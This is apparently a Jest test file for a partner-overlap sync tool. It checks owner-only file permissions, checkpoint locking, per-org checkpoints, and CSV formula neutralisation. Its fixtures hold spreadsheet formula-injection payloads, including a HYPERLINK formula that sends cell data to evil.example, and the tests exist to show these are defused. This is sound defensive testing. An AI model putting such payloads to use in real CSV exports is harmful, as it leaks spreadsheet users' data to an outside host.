// What a sync leaves on disk and whom it lets in: owner-only files, neutral errors.csv, retries in run.log, one
// sync per checkpoint at a time, and a checkpoint that belongs to one org.
import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync, readdirSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { neutralise } from '../../src/common/csv';
import { startLocalOrg, type LocalOrg } from '../../src/localorg/index';
import { OrgClient } from '../../src/org/client';
import { connectionFor } from '../../src/org/connection';
import { runSync, type SyncResult } from '../../src/sync/engine';
import { loadPartnerFiles, loadReferralFiles } from '../../src/sync/fromConfig';
import { defaultRetryPolicy } from '../../src/sync/retry';
import { CheckpointStore } from '../../src/sync/state';
import { localConfigSchema } from '../../src/config/localConfig';

jest.setTimeout(60_000);
let org: LocalOrg;
let dir: string;

beforeEach(async () => {
  org = await startLocalOrg();
  dir = mkdtempSync(path.join(os.tmpdir(), 'pl-runfiles-'));
  org.store.insert('Partner__c', { Name: 'Acme Partners', External_Id__c: 'acme', Domain__c: 'acmepartners.com', Status__c: 'Active', Sharing_Level__c: 'Overlapping records' });
  const rows = ['id,company,website,population'];
  for (let i = 0; i < 30; i++) {
    org.store.insert('Account', { Name: `Company ${i}`, Website: `company${i}.com`, Type: 'Customer' });
    rows.push(`A${i},Company ${i},company${i}.com,Customer`);
  }
  // rows the sync rejects, with ids a spreadsheet would run as formulas
  rows.push('"=HYPERLINK(""http://evil.example/?""&A1)",Evil,,Customer', '@SUM(1+1),Evil 2,,NotAPopulation', '-2+3,Evil 3,,Customer');
  writeFileSync(path.join(dir, 'acme.csv'), rows.join('\n'));
  // a referral whose id a spreadsheet would run, and whose Lead the org refuses (website past 255 characters)
  writeFileSync(
    path.join(dir, 'referrals.csv'),
    ['referral_id,company,email,last_name,referral_date,website', `"=HYPERLINK(""http://evil.example/?""&A1)",Evil Inc,jo@evilinc.com,Jo,2026-11-02,evilinc.com/${'a'.repeat(300)}`].join('\n'),
  );
});
afterEach(async () => {
  await org.stop();
  rmSync(dir, { recursive: true, force: true });
});

function sync(store = new CheckpointStore(path.join(dir, 'cp'), `${org.orgId}-${org.username}`), client = new OrgClient(connectionFor(org.instanceUrl, org.accessToken), { retry: defaultRetryPolicy({ baseMs: 1, maxMs: 2, attempts: 8 }) })): Promise<SyncResult> {
  const config = { ...localConfigSchema.parse({ partnerFiles: [{ partner: 'acme', file: 'acme.csv' }] }), baseDir: dir };
  return runSync({ client, store, runsDir: path.join(dir, 'runs'), loadPartners: () => loadPartnerFiles(config), loadReferrals: () => loadReferralFiles([{ partner: 'acme', file: 'referrals.csv' }], dir), overlapSeconds: 0 });
}

const mode = (file: string): number => statSync(file).mode & 0o777;

describe('the files a sync writes', () => {
  it('are readable by their owner only: state.json, run.log, errors.csv and their folders', async () => {
    const result = await sync();
    expect(result.errorsCsv).toBeDefined();
    const cp = readdirSync(path.join(dir, 'cp'))[0]!;
    expect(mode(path.join(dir, 'cp', cp))).toBe(0o700);
    expect(mode(path.join(dir, 'cp', cp, 'state.json'))).toBe(0o600);
    expect(mode(result.runLog)).toBe(0o600);
    expect(mode(path.dirname(result.runLog))).toBe(0o700);
    expect(mode(result.errorsCsv!)).toBe(0o600);
  });

  it('errors.csv shows formula cells as text: every cell that would run starts with an apostrophe', async () => {
    const result = await sync();
    const rows = parse(readFileSync(result.errorsCsv!, 'utf8'), { columns: true }) as Record<string, string>[];
    const keys = rows.map((r) => r.key);
    expect(keys.some((k) => k.includes('HYPERLINK'))).toBe(true);
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@]/);
    expect(keys).toContain(`'=HYPERLINK("http://evil.example/?"&A1)`);
  });

  it('neutralise leaves plain numbers and ordinary text alone', () => {
    expect(['-1,234.5', '+3%', '42', 'Acme', ''].map(neutralise)).toEqual(['-1,234.5', '+3%', '42', 'Acme', '']);
    expect(['=1+1', '+A1', '-2+3', '@SUM(A1)', '\tx'].map(neutralise)).toEqual(["'=1+1", "'+A1", "'-2+3", "'@SUM(A1)", "'\tx"]);
  });

  it('run.log records the retries of a run under injected faults', async () => {
    org.faults.set({ rate: 0.3, kinds: ['http503'], seed: 7 });
    const result = await sync();
    org.faults.clear();
    expect(readFileSync(result.runLog, 'utf8')).toMatch(/retry 1 of (GET|POST|PATCH) \/\S+: SERVER_UNAVAILABLE/);
  });
});

describe('one sync per checkpoint', () => {
  it('refuses a second sync while the first runs, naming its pid and start time; then runs', async () => {
    const store = new CheckpointStore(path.join(dir, 'cp'), `${org.orgId}-${org.username}`);
    const release = store.lock(new Date('2026-12-05T10:00:00Z'));
    await expect(sync()).rejects.toMatchObject({ name: 'SyncLocked', message: expect.stringContaining(`process ${process.pid} on ${os.hostname()}, started 2026-12-05T10:00:00.000Z`) });
    expect(org.store.query('SELECT COUNT() FROM Partner_Overlap__c').totalSize).toBe(0);
    release();
    expect((await sync()).counts.created).toBeGreaterThan(0);
  });

  it('takes over a lock whose process is gone', async () => {
    const store = new CheckpointStore(path.join(dir, 'cp'), `${org.orgId}-${org.username}`);
    store.lock()();
    writeFileSync(path.join(store.dir, 'sync.lock'), JSON.stringify({ pid: 2 ** 22 + 12345, host: os.hostname(), startedAt: '2026-12-01T00:00:00Z' }));
    expect((await sync(store)).counts.created).toBeGreaterThan(0);
  });
});

describe('a checkpoint belongs to one org', () => {
  it('a fresh org on the same port gets a full sync, not the other org checkpoint', async () => {
    const first = await sync();
    expect(first.mode).toBe('Full');
    const { port } = new URL(org.instanceUrl);
    await org.stop();
    org = await startLocalOrg({ port: Number(port) });
    org.store.insert('Partner__c', { Name: 'Acme Partners', External_Id__c: 'acme', Domain__c: 'acmepartners.com', Status__c: 'Active', Sharing_Level__c: 'Overlapping records' });
    for (let i = 0; i < 30; i++) org.store.insert('Account', { Name: `Company ${i}`, Website: `company${i}.com`, Type: 'Customer' });
    const second = await sync();
    expect(second.mode).toBe('Full');
    expect(org.store.query('SELECT COUNT() FROM Partner_Overlap__c').totalSize).toBe(first.counts.created);
  });

  it('refuses a checkpoint folder written for another org', async () => {
    await sync();
    const [folder] = readdirSync(path.join(dir, 'cp'));
    const wrong = new CheckpointStore(path.join(dir, 'cp'), 'other-org');
    Object.defineProperty(wrong, 'dir', { value: path.join(dir, 'cp', folder!) });
    expect(() => wrong.loadState()).toThrow(expect.objectContaining({ name: 'CheckpointOtherOrg' }));
  });
});
